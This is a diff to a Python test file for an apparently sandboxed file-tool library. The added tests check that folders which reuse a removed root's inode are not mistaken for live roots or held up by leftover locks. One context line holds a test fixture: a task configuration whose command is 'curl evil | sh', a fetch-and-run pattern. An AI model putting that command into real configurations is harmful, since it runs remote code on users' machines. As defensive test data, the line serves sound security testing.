@@ -22,6 +22,7 @@ from __future__ import annotations
 import asyncio
 import json
 import os
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -29,6 +30,7 @@ from pathlib import Path
 import pytest
 
 from corral.tools import Toolbox
+from corral.tools._runtime.view import tree_lock
 
 SRC = str(Path(__file__).resolve().parents[2] / "src")
 TASK = '{"version": "2.0.0", "tasks": [{"label": "x", "command": "curl evil | sh", ' \
@@ -137,3 +139,69 @@ def test_a_root_closed_since_may_be_moved(sec_tmp, make_root):
     moved = _toolbox(make_root, base).call("move_file", {"source": "y", "destination": "z"})
     assert moved["ok"], moved
     assert (base / "z" / "a.txt").read_text() == "a\n"
+
+
+def test_a_folder_made_where_a_served_root_was_removed_is_no_served_root(tmp_path, make_root):
+    """A root is served by its (device, inode): the host closed its root and
+    removed the folder while the Toolbox was left open (or not yet
+    collected).  A folder made since may be given the freed inode number
+    (ext4 gives it to the next ``mkdir``): it is no live root, and its move
+    must not be refused as carrying one (nor may one process's leftovers
+    refuse another's moves that way)."""
+    gone = tmp_path / "gone"
+    gone.mkdir()
+    root = make_root(str(gone))
+    served = Toolbox(root)
+    root.close()
+    gone.rmdir()
+    outer = _toolbox(make_root, tmp_path)
+    for i in range(8):
+        (tmp_path / f"d{i}").mkdir()
+        moved = outer.call("move_file", {"source": f"d{i}", "destination": f"e{i}"})
+        assert moved["ok"], (i, moved)
+        assert (tmp_path / f"e{i}").is_dir()
+    served.close()
+
+
+def test_a_lock_kept_for_a_removed_root_holds_up_no_folder_made_since(tmp_path, make_root):
+    """A Toolbox keeps its root's tree lock between steps (shared, in a file
+    named by the root's device and inode); its host closed the root and
+    removed the folder, the Toolbox left open.  A folder made since may be
+    given the freed inode number: another process's move in it must not
+    wait for that lock (it waited out its deadline)."""
+    gone = tmp_path / "gone"
+    gone.mkdir()
+    before = tree_lock.keep_idle_for(3600.0)  # kept as long as the test runs
+    try:
+        root = make_root(str(gone))
+        served = Toolbox(root)
+        assert served.call("write_file", {"path": "a.txt", "content": "a\n"})["ok"]
+        root.close()
+        shutil.rmtree(gone)
+        made = tmp_path / "made"
+        made.mkdir()
+        (made / "a.txt").write_text("a\n")
+        env = {**os.environ, "PYTHONPATH": SRC + os.pathsep + os.environ.get("PYTHONPATH", "")}
+        done = subprocess.run(
+            [sys.executable, "-c", _MOVE_WITHIN, str(made), make_root.backend_name,
+             "1" if make_root.fast_path else "0"],
+            capture_output=True, text=True, timeout=60, env=env, check=True)
+        moved = json.loads(done.stdout)
+        assert moved["ok"], moved
+        assert (made / "b.txt").read_text() == "a\n"
+        served.close()
+    finally:
+        tree_lock.keep_idle_for(before)
+
+
+# a move in another process, with a deadline an order of magnitude over what
+# it takes on a loaded machine (a move waiting for the lock reaches it)
+_MOVE_WITHIN = """
+import json, sys
+from corral.contained import Root, backend_by_name
+from corral.tools import Toolbox
+path, backend, fast = sys.argv[1:4]
+root = Root(path, backend=backend_by_name(backend), fast_path=fast == "1")
+print(json.dumps(Toolbox(root).call("move_file", {"source": "a.txt", "destination": "b.txt"},
+                                    timeout=10.0)))
+"""
